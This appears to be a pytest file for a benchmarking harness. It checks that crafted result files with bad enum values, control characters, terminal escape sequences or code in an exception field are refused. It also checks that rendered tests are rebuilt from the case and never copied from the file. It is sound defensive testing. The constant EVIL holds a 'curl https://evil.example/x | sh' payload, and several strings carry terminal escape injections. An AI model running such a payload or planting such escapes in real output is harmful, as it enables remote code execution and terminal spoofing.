"""A crafted result file (what ``report --from``, ``comment --from``, ``compare``, ``history`` and
``export-tests`` read) is refused on load in one line, exit 2, with no traceback and no report written: an
enumerated field outside its set, a control character or a lone surrogate in any string, an exception name
that is code.  What renderers show of test code is written anew from the case, never the file's text; the
terminal renderer reads no markup from a result; and a result the harness builds holds nothing its loader
would refuse."""

import dataclasses
import io
import json

import pytest
from rich.console import Console

from harness.render import console, report

from harness.core import result, stats
from harness.core.result import Noise

from harness.core import schema
from harness.cli.commands import main
from harness.render.export import export_tests

EVIL = "import os; os.system('curl https://evil.example/x | sh')"


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """One small real run: a passing candidate with its timed regression cases, and a failing one."""
    out = tmp_path_factory.mktemp("saved")
    assert main(["run", "--target", "quantize_k_cache", "--out", str(out), "--sizes", "1x32x576", "--budget", "0.2",
                 "--examples", "5", "--no-profile", "--candidate", "candidates/fused.py:fused",
                 "--candidate", "tests/wrong_candidates.py:wrong_for_fp16"]) == 1
    path = out / "quantize_k_cache-cpu.json"
    run = schema.load(path)
    assert run.candidates[0].verdict == "pass" and run.candidates[0].case_timings
    assert run.candidates[1].verdict == "fail" and run.candidates[1].verification.failures
    return run, path


def crafted(path, tmp_path, mutate, name="crafted.json"):
    data = json.loads(path.read_text())
    mutate(data)
    out = tmp_path / name
    out.write_text(json.dumps(data))  # ensure_ascii: a lone surrogate is written as its escape, as an attacker would
    return out


def refused(capsys, argv, message):
    assert main(argv) == 2
    err = capsys.readouterr().err.strip()
    assert message in err, err
    assert "\n" not in err and "Traceback" not in err
    return err


def commands(path, tmp_path):
    """Every command that reads a result file, reading ``path``."""
    history = tmp_path / "history" / "abc1234"
    history.mkdir(parents=True, exist_ok=True)
    (history / "quantize_k_cache-cpu.json").write_text(path.read_text())
    return [["report", "--from", str(path)], ["report", "--from", str(path), "--format", "terminal"],
            ["comment", "--from", str(path)], ["compare", str(path), str(path)],
            ["history", str(tmp_path / "history")], ["export-tests", "--from", str(path), "-o", str(tmp_path / "t.py")]]


# -- enumerated fields ------------------------------------------------------------------------------

@pytest.mark.parametrize("mutate, message", [
    (lambda d: d["candidates"][0].update(verdict="[bold]pass"),
     "result.candidates[0].verdict: expected one of 'pass', 'fail', 'error', 'untested', got '[bold]pass'"),
    (lambda d: d["candidates"][0].update(verdict="passed"), "result.candidates[0].verdict: expected one of"),
    (lambda d: d["candidates"][1]["verification"]["failures"][0].update(kind="[/]"),
     "result.candidates[1].verification.failures[0].kind: expected one of 'mismatch', 'refusal', 'error', 'state'"),
    (lambda d: d["candidates"][0]["timings"][0].update(verdict="[red]much faster[/red]"),
     "result.candidates[0].timings[0].verdict: expected one of 'faster', 'slower'"),
    (lambda d: d["candidates"][0]["timings"][0].update(pair_speedups=[1.0], pair_verdicts=[True]),
     "result.candidates[0].timings[0].pair_verdicts[0]: expected one of 'faster'"),
])
def test_a_verdict_the_harness_never_writes_is_refused_by_every_command(saved, tmp_path, capsys, mutate, message):
    _, path = saved
    bad = crafted(path, tmp_path, mutate)
    for argv in commands(bad, tmp_path):
        refused(capsys, argv, message)
    assert not (tmp_path / "t.py").exists()


def test_the_enumerations_are_the_verdicts_the_harness_decides():
    assert set(result.SpeedVerdict) == {*stats.DECISIVE, stats.INCONCLUSIVE}
    assert {v.value for v in result.Verdict} == {"pass", "fail", "error", "untested"}
    assert json.dumps([result.Verdict.PASS, stats.FASTER]) == '["pass", "faster"]'  # in JSON: plain strings


def test_the_terminal_renderer_reads_no_markup_from_a_result(saved):
    run, _ = saved
    good, bad = run.candidates
    odd = "[/] [bold red]x[/bold red] [link=https://evil.example]y[/link] \\"
    failure = dataclasses.replace(bad.verification.failures[0], case=odd, reason=odd, family=odd, input=odd)
    bad = dataclasses.replace(bad, name=odd, spec=odd, error=odd, notes=(odd,),
                              verification=dataclasses.replace(bad.verification, failures=(failure,), pattern=odd))
    with pytest.raises(ValueError):  # a verdict no loader lets through cannot even be built in memory
        dataclasses.replace(good, verdict="[bogus]")
    good = dataclasses.replace(good, name=odd + "\\", timings=tuple(
        dataclasses.replace(t, label=odd, size=odd) for t in good.timings))
    run = dataclasses.replace(run, candidates=(good, bad), function=odd, policy=odd, baseline=odd, noise=(Noise("load", odd),),
                              checkout_changes=(odd,))
    buffer = io.StringIO()
    console.render(run, Console(file=buffer, width=400, color_system=None), show_reproducer=True)
    text = buffer.getvalue()
    assert text.count("[link=https://evil.example]y[/link]") >= 5
    assert "[bold red]x[/bold red]" in text
    assert console.line(("[/]", "bold"), " [red]").plain == "[/] [red]"


# -- text no renderer should meet -------------------------------------------------------------------

def _key(d):
    d["candidates"][0]["case_timings"][0]["params"]["values\x1b"] = "randn"


@pytest.mark.parametrize("mutate, message", [
    (lambda d: d["candidates"][1].update(name="wrong\x1b]0;owned\x07"),
     "result.candidates[1].name: contains a control character (U+001B)"),
    (lambda d: d["candidates"][1].update(doc="ring \x07 ring"), "result.candidates[1].doc: contains a control character (U+0007)"),
    (lambda d: d.update(function="f\ud800"), "result.function: contains a lone surrogate (U+D800)"),
    (lambda d: d["candidates"][1]["verification"]["failures"][0].update(reason="a\rb"),
     "result.candidates[1].verification.failures[0].reason: contains a control character (U+000D)"),
    (lambda d: d["environment"].update(command="harness \x9b2J"), "result.environment.command: contains a control character (U+009B)"),
    (lambda d: d["candidates"][0]["case_timings"][0]["params"].update(values="randn\x00"),
     "result.candidates[0].case_timings[0].params.values: contains a control character (U+0000)"),
    (_key, "result.candidates[0].case_timings[0].params (a key): contains a control character (U+001B)"),
])
def test_control_characters_and_lone_surrogates_are_refused(saved, tmp_path, capsys, mutate, message):
    _, path = saved
    bad = crafted(path, tmp_path, mutate)
    for argv in commands(bad, tmp_path):
        refused(capsys, argv, message)


def test_a_result_with_escapes_and_bells_leaves_the_existing_report_untouched(saved, tmp_path, capsys):
    _, path = saved
    bad = crafted(path, tmp_path, lambda d: d["candidates"][1]["verification"]["failures"][0].update(
        test="\x1b]0;owned\x07\x1b[2J# looks fine\n"))
    existing = tmp_path / "report.md"
    existing.write_text("the earlier report")
    for fmt in ("markdown", "pr-comment", "terminal"):
        refused(capsys, ["report", "--from", str(bad), "--format", fmt, "-o", str(existing)],
                "result.candidates[1].verification.failures[0].test: contains a control character (U+001B)")
        assert existing.read_text() == "the earlier report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["crafted.json", "report.md"]  # no temporary file left


@pytest.mark.parametrize("mutate, message", [
    (lambda d: d["candidates"][0]["case_timings"][0].update(raises=EVIL),
     "result.candidates[0].case_timings[0]: raises: expected an exception's name, like AssertionError, got"),
    (lambda d: d["candidates"][0]["case_timings"][0].update(raises="AssertionError\n    import os"),
     "raises: expected an exception's name"),
    (lambda d: d["candidates"][0]["case_timings"][0].update(raises=""), "raises: expected an exception's name"),
])
def test_raises_must_be_an_exception_name(saved, tmp_path, capsys, mutate, message):
    _, path = saved
    refused(capsys, ["comment", "--from", str(crafted(path, tmp_path, mutate))], message)


@pytest.mark.parametrize("edit, message", [
    (lambda text: text.replace('"seed": 0', '"seed": ' + "9" * 5000, 1), "is not a harness result: Exceeds the limit (4300 digits)"),
    (lambda text: text.replace('"speedup": ', '"speedup": 1' + "0" * 400 + ', "was": ', 1),
     "result.candidates[0].timings[0].speedup: expected a finite number, got an integer too large for a float"),
])
def test_numbers_python_cannot_read_are_refused(saved, tmp_path, capsys, edit, message):
    _, path = saved
    bad = tmp_path / "crafted.json"
    bad.write_text(edit(path.read_text()))
    refused(capsys, ["report", "--from", str(bad)], message)


# -- test code is the harness's, never the file's ------------------------------------------------------

def _planted(d):
    for c in d["candidates"]:
        for ct in c["case_timings"]:
            ct["test"] = EVIL + "\n"
        for f in (c["verification"] or {}).get("failures", []):
            f["test"] = EVIL + "\n"


def test_the_tests_shown_are_written_anew_not_taken_from_the_file(saved, tmp_path, capsys):
    run, path = saved
    bad = crafted(path, tmp_path, _planted)
    for fmt in ("markdown", "pr-comment"):
        assert main(["report", "--from", str(bad), "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert "curl" not in out and "os.system" not in out
        assert "def test_quantize_k_cache_" in out and "check_case('quantize_k_cache', 'candidates/fused.py:fused'" in out
        assert "Reproduce <code>" in out and "check_case('quantize_k_cache', 'tests/wrong_candidates.py:wrong_for_fp16'" in out
    assert main(["comment", "--from", str(bad)]) == 0
    assert "curl" not in capsys.readouterr().out
    assert main(["export-tests", "--from", str(bad), "-o", str(tmp_path / "t.py")]) == 0
    assert "curl" not in (tmp_path / "t.py").read_text()
    planted = schema.load(bad)
    buffer = io.StringIO()
    console.reproducers(planted, Console(file=buffer, width=200))
    assert "curl" not in buffer.getvalue() and "def test_quantize_k_cache_" in buffer.getvalue()
    assert report.markdown(planted) == report.markdown(run)  # the planted text changed nothing shown


def test_a_target_not_in_this_project_shows_no_test_code(saved, tmp_path, capsys):
    run, path = saved
    bad = crafted(path, tmp_path, lambda d: (_planted(d), d.update(target="not_a_target")))
    assert main(["report", "--from", str(bad)]) == 0
    out = capsys.readouterr().out
    assert "curl" not in out and "def test_" not in out and "Reproduce <code>" not in out
    case = run.candidates[0].case_timings[0].case
    assert f"- `{case}`: " in out  # the cases and their runtimes are still there
    assert "is not in this project" in out
    buffer = io.StringIO()
    console.reproducers(schema.load(bad), Console(file=buffer, width=200))
    assert "curl" not in buffer.getvalue() and "no test (target not_a_target is not in this project)" in buffer.getvalue()


def test_without_torch_as_in_the_pr_bots_job_the_comment_shows_runtimes_but_no_test_code(saved, monkeypatch):
    run, _ = saved

    def no_torch(name):
        raise ModuleNotFoundError("No module named 'torch'", name="torch")

    monkeypatch.setattr(report, "get_target", no_torch)
    text = report.pr_comment(run)
    assert "def test_" not in text and "Reproduce <code>" not in text
    assert "🌀 Generated regression tests and runtime" in text
    best = report.best_candidate(run) or next(c for c in run.candidates if c.case_timings)  # as the report picks
    listed = sum(f"- `{ct.case}`: " in text for ct in best.case_timings)
    assert listed == min(report.TESTS_SHOWN, len(best.case_timings))


# -- what the harness writes, it can read back ------------------------------------------------------

def test_a_result_built_with_control_characters_holds_none_and_loads_back(saved, tmp_path):
    """A candidate's exception messages, docstring and name reach the result: building a ``RunResult``
    replaces what the loader refuses, so a run's JSON always loads and re-renders as the original report."""
    run, _ = saved
    good, bad = run.candidates
    failure = dataclasses.replace(bad.verification.failures[0], reason="raised \x1b[2J\x07 \ud800 boom")
    bad = dataclasses.replace(bad, doc="doc\x1b]0;owned\x07", error="a\rb",
                              verification=dataclasses.replace(bad.verification, failures=(failure,)))
    built = dataclasses.replace(run, candidates=(good, bad), noise=(Noise("load", "\x9b load"),))
    assert built.candidates[1].doc == "doc?]0;owned?"
    assert built.candidates[1].verification.failures[0].reason == "raised ?[2J? ? boom"
    assert built.candidates[1].error == "a?b" and built.noise == (Noise("load", "? load"),)
    assert good is built.candidates[0]  # nothing to clean: the very same object
    assert schema.load_text(schema.dumps(built)) == built
    path = tmp_path / "built.json"
    schema.write_atomic(path, schema.dumps(built))
    md = report.markdown(built)
    md.encode("utf-8")
    assert report.markdown(schema.load(path)) == md
    assert export_tests(schema.load(path)) == export_tests(built)


def test_a_result_from_before_noise_was_records_loads_its_notes_as_words(saved):
    run, _ = saved
    data = json.loads(schema.dumps(dataclasses.replace(run, noise=(Noise("load", "other processes used 40% ..."),))))
    data["noise"] = ["other processes used 40% of the CPUs while fused was timed"]  # as such files hold them
    data["schema"] = 1
    assert schema.load_text(json.dumps(data)).noise == (
        Noise("other", "other processes used 40% of the CPUs while fused was timed"),)
    data["noise"] = [{"kind": "gremlins", "text": "x"}]
    with pytest.raises(ValueError, match="kind"):
        schema.load_text(json.dumps(data))
